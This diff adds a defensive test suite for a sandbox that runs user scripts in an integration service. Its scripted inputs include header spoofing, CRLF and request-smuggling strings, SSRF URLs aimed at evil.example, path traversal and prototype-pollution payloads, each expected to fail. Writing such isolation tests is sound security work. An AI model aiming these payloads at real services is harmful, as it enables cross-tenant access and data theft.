@@ -1,0 +1,221 @@
+import { expect } from 'chai';
+import { canary, sweep } from '../support/canaries.ts';
+import { type Connected, createIntegration, readConnection } from '../support/connect.ts';
+import { storeTenant } from '../support/stored.ts';
+import { type ScriptedService, startScriptedService } from '../support/user-scripts.ts';
+
+const EVENT = 'post-connection-creation';
+
+/** What stands in for names of others: filled in when the test runs. */
+const WANTED = `
+const other = OTHER;
+const theirs = { connectionId: other.connectionId, providerConfigKey: other.key, environmentId: other.environmentId };
+const tries = {
+  'a header names another connection': () => svc.get({ endpoint: '/echo', headers: { 'Connection-Id': other.connectionId } }),
+  'the same in small letters': () => svc.get({ endpoint: '/echo', headers: { 'connection-id': other.connectionId } }),
+  'the same in capitals': () => svc.get({ endpoint: '/echo', headers: { 'CONNECTION-ID': other.connectionId } }),
+  'the same set explicitly': () => svc.get({ endpoint: '/echo', headers: { 'Svc-Proxy-Connection-Id': other.connectionId } }),
+  'a header names another integration': () => svc.get({ endpoint: '/echo', headers: { 'Provider-Config-Key': other.key } }),
+  'a header names another base URL': () => svc.get({ endpoint: '/echo', headers: { 'Base-Url-Override': other.url } }),
+  'the same of the own host': () => svc.get({ endpoint: '/echo', headers: { 'Base-Url-Override': other.providerUrl } }),
+  'a header names another host': () => svc.get({ endpoint: '/echo', headers: { Host: 'evil.example' } }),
+  'two requests in one': () => svc.get({ endpoint: '/echo', headers: { a: 'b\\r\\nX-Smuggled: 1' } }),
+  'two requests by a length': () => svc.post({ endpoint: '/echo', data: 'GET / HTTP/1.1', headers: { 'content-length': '0' } }),
+  'two requests by a coding': () => svc.post({ endpoint: '/echo', data: '0', headers: { 'transfer-encoding': 'chunked' } }),
+  'an upgrade': () => svc.get({ endpoint: '/echo', headers: { Connection: 'upgrade', Upgrade: 'websocket' } }),
+  'a whole URL': () => svc.get({ endpoint: other.url + '/steal' }),
+  'a whole URL in capitals': () => svc.get({ endpoint: 'HTTP://evil.example/' }),
+  'a URL without scheme': () => svc.get({ endpoint: '//evil.example/steal' }),
+  'a path that climbs': () => svc.get({ endpoint: '/../outside' }),
+  'the same encoded': () => svc.get({ endpoint: '/%2e%2e/outside' }),
+  'the same with backslashes': () => svc.get({ endpoint: '\\\\..\\\\outside' }),
+  'a path of our own service': () => svc.get({ endpoint: '/../../connections' }),
+  'a fragment': () => svc.get({ endpoint: '/echo#@evil.example' }),
+  'a user before the host': () => svc.get({ endpoint: '@evil.example/' }),
+  'a method that reads everything back': () => svc.proxy({ endpoint: '/echo', method: 'TRACE' }),
+  'a tunnel': () => svc.proxy({ endpoint: 'evil.example:443', method: 'CONNECT' }),
+  'a method with a line feed': () => svc.proxy({ endpoint: '/echo', method: 'GET / HTTP/1.1\\r\\nX: y' }),
+  'an endpoint that is no text': () => svc.proxy({ endpoint: { toString: () => other.url } }),
+  'headers with a prototype': () => svc.get({ endpoint: '/echo', headers: JSON.parse('{"__proto__": {"connection-id": "x"}}') }),
+  'a request that names the connection': () => svc.get({ endpoint: '/me', connection_id: other.connectionId, ...theirs }),
+  'a second argument': () => svc.proxy({ endpoint: '/me' }, { connectionId: other.connectionId }, other.environmentId),
+  'getConnection of another': () => svc.getConnection(other.connectionId),
+  'getConnection by an object': () => svc.getConnection(theirs),
+  'getConnection with credentials': () => svc.getConnection({ credentials: true, include: ['credentials'], refresh_token: true }),
+  'getIntegration of another': () => svc.getIntegration(other.key),
+  'getIntegration with its app': () => svc.getIntegration({ include: ['credentials'] }),
+  'getMetadata of another': () => svc.getMetadata(other.connectionId),
+  'setMetadata of another': () => svc.setMetadata({ own: 1 }, other.connectionId),
+  'setMetadata that names another': () => svc.setMetadata({ own: 1 }, { connection_id: other.connectionId }),
+  'metadata with a prototype': () => svc.setMetadata(JSON.parse('{"__proto__": {"polluted": true}, "own": 1}')),
+  'metadata with a constructor': () => svc.setMetadata({ constructor: { prototype: { polluted: true } } }),
+  'metadata nested in a prototype': () => svc.updateMetadata({ a: JSON.parse('{"__proto__": {"polluted": true}}') }),
+  'metadata that are too large': () => svc.setMetadata({ text: 'x'.repeat(70_000) }),
+  'metadata that grow too large': async () => {
+    for (const name of ['a', 'b', 'c']) await svc.updateMetadata({ [name]: 'x'.repeat(30_000) });
+  },
+  'metadata that are a list': () => svc.setMetadata([1]),
+  'metadata with a zero': () => svc.setMetadata({ a: 'x\\u0000' }),
+  'metadata with half a character': () => svc.setMetadata({ a: 'x\\ud800' }),
+  'an object of the connection': () => { svc.connectionId = other.connectionId; return svc.get({ endpoint: '/me' }); },
+  'a replaced svc': () => Reflect.apply(svc.get, { connectionId: other.connectionId }, [{ endpoint: '/me' }]),
+};`;
+
+/** What is answered after all: whatever it named, it got its own. */
+const OWN_ANSWERS: readonly string[] = [
+  'the same set explicitly',
+  'headers with a prototype',
+  'a request that names the connection',
+  'a second argument',
+  'getConnection of another',
+  'getConnection by an object',
+  'getConnection with credentials',
+  'getIntegration of another',
+  'getIntegration with its app',
+  'getMetadata of another',
+  'setMetadata of another',
+  'setMetadata that names another',
+  'metadata with a prototype',
+  'metadata nested in a prototype',
+  'a replaced svc',
+];
+
+const SOURCE = `export default async (svc) => {
+  ${WANTED}
+  for (const [name, run] of Object.entries(tries)) {
+    let came;
+    try {
+      const answer = await run();
+      came = { answer: answer?.data ?? answer ?? null, path: answer?.status };
+    } catch (error) {
+      came = { code: error.code ?? error.name, message: error.message };
+    }
+    svc.log(name, { came: JSON.stringify(came).slice(0, 3_000) });
+  }
+  return { tries: Object.keys(tries).length };
+};`;
+
+describe('what a script may reach', () => {
+  let service: ScriptedService;
+  let victim: Connected;
+  let others: Readonly<Record<string, string | number>>;
+  const secrets: string[] = [];
+
+  before(async () => {
+    service = await startScriptedService({ withJobs: true, env: { SVC_SCRIPT_TIMEOUT_MS: '20000' } });
+    victim = await service.connect();
+    await createIntegration(service.app, service.provider, { key: 'other' });
+    const tenant = await storeTenant(service.app, 'elsewhere');
+    const { body } = await readConnection(service.app, victim);
+    secrets.push(body.credentials.access_token, service.provider.clientSecret);
+    others = {
+      connectionId: victim.connectionId,
+      key: 'other',
+      environmentId: tenant.environmentId,
+      url: service.app.url,
+      providerUrl: service.provider.url,
+    };
+  });
+
+  after(() => service[Symbol.asyncDispose]());
+
+  it('SBX-03: only its own connection, whatever it asks for', async () => {
+    await service.deploy(EVENT, SOURCE.replace('OTHER', JSON.stringify(others)));
+    const { db } = service.app.database;
+    const before = await db('connections').where({ connection_id: victim.connectionId }).first('metadata', 'updated_at');
+    const calls = service.provider.ledger.of('api').length;
+    const own = await service.connect();
+    const { credentials } = (await readConnection(service.app, own)).body;
+    const { log, status } = await service.ran(EVENT);
+    expect(status).to.equal('done');
+    expect(log.length).to.be.at.least(40);
+
+    const told = log.map(({ message, facts }) => `${message}: ${JSON.stringify(facts)}`);
+    for (const text of told) {
+      expect(text, text).not.to.include('polluted').and.not.to.include('"errno"').and.not.to.include('file://');
+      if (!text.includes('header')) expect(text, text).not.to.include(`\\"connection_id\\":\\"${victim.connectionId}`);
+    }
+    const answered = log.filter(({ facts }) => JSON.stringify(facts).includes('\\"answer\\"')).map(({ message }) => message);
+    expect(answered, 'what was answered, all of it for the own connection').to.have.members(OWN_ANSWERS);
+
+    // Every call that went out carried this connection's token, to this connection's provider, below its base URL.
+    const sent = service.provider.ledger.of('api').slice(calls);
+    expect(sent.length).to.be.above(0);
+    for (const { headers, target } of sent) {
+      expect(headers.authorization).to.equal(`Bearer ${credentials.access_token}`);
+      expect(target).to.match(/^\/api\//);
+      expect(headers).not.to.have.any.keys('x-smuggled', 'provider-config-key', 'upgrade');
+    }
+    expect(await db('connections').where({ connection_id: victim.connectionId }).first('metadata', 'updated_at')).to.deep.equal(
+      before,
+    );
+    expect(({} as { polluted?: unknown }).polluted).to.equal(undefined);
+    const row = await db('script_runs').where({ connection_id: own.connectionId }).first('log');
+    expect(sweep({ log: JSON.stringify(row) })).to.deep.equal([]);
+  });
+
+  it('SBX-06: of a call that fails inside the service it learns a code and a safe text', async () => {
+    await service.deploy(
+      EVENT,
+      `export default async (svc) => {
+         for (const name of ['getMetadata', 'getConnection', 'getIntegration', 'setMetadata', 'updateMetadata'])
+           await svc[name]({ a: 1 }).then(
+             () => svc.log(name, { came: 'answer' }),
+             ({ name: kind, code, message, status, stack, ...rest }) =>
+               svc.log(name, { came: [kind, code, message, status, Object.keys(rest)], stack }),
+           );
+       };`,
+    );
+    const { db } = service.app.database;
+    const before = (await service.runs(EVENT)).length;
+    // A fault whose own text holds what must not be told.
+    const untold = 'untold-8c1f';
+    await db.raw(
+      `create function fail() returns trigger language plpgsql as $$
+       begin raise exception '% at file:///srv/core/db.ts', '${untold}'; end $$`,
+    );
+    await db.raw('create trigger fail before update of metadata on connections for each row execute function fail()');
+    await service.connect();
+    const { log, status } = await service.ran(EVENT, before + 1);
+    await db.raw('drop function fail cascade');
+    expect(status).to.equal('done');
+    const failed = log.filter(({ facts }) => !JSON.stringify(facts).includes('"came":"answer"'));
+    expect(failed.map(({ message }) => message)).to.deep.equal(['setMetadata', 'updateMetadata']);
+    for (const { facts } of failed) {
+      expect(facts).to.have.property('came').that.deep.equals(['ScriptError', 'internal_error', 'the call failed', null, []]);
+      expect(JSON.stringify(facts)).not.to.match(/untold|file:|update |insert |node_modules|core\/|\.ts/);
+    }
+    const isInjected = service.app.logLines.some((line) => line.includes('a call of a script failed') && line.includes(untold));
+    expect(isInjected, 'the fault').to.equal(true);
+  });
+
+  it('a script that reads the webhook secret, and a provider that repeats the token, put neither into a log', async () => {
+    const secret = canary('webhook secret');
+    await service.app.api.patch('/integrations/fake', { credentials: { webhook_secret: secret } });
+    await service.deploy(
+      EVENT,
+      `export default async (svc) => {
+         const { webhook_secret, webhook_url, connection_webhook_url } = await svc.getIntegration();
+         svc.log('plain ' + webhook_secret, {
+           text: 'in a text: ' + webhook_secret,
+           [webhook_secret]: 1,
+           webhook_url,
+           connection_webhook_url,
+           length: webhook_secret.length,
+         });
+         const { data } = await svc.get({ endpoint: '/echo' });
+         svc.log('echo ' + JSON.stringify(data), { data });
+         throw new svc.ScriptError('died of ' + webhook_secret + ' and ' + JSON.stringify(data));
+       };`,
+    );
+    const before = (await service.runs(EVENT)).length;
+    const { connectionId } = await service.connect();
+    const { log } = await service.ran(EVENT, before + 1);
+    expect(log.length).to.equal(3);
+    expect(log[0]?.facts).to.include({ length: secret.length });
+    expect(JSON.stringify(log[0]?.facts)).to.include('/webhook/').and.to.include(`svcConnectionId=${connectionId}`);
+    await service.app.services.activity.flush();
+    const operations = await service.app.database.db('operations').where({ connection_id: connectionId });
+    expect(sweep({ log: JSON.stringify(log), operations: JSON.stringify(operations) })).to.deep.equal([]);
+  });
+});
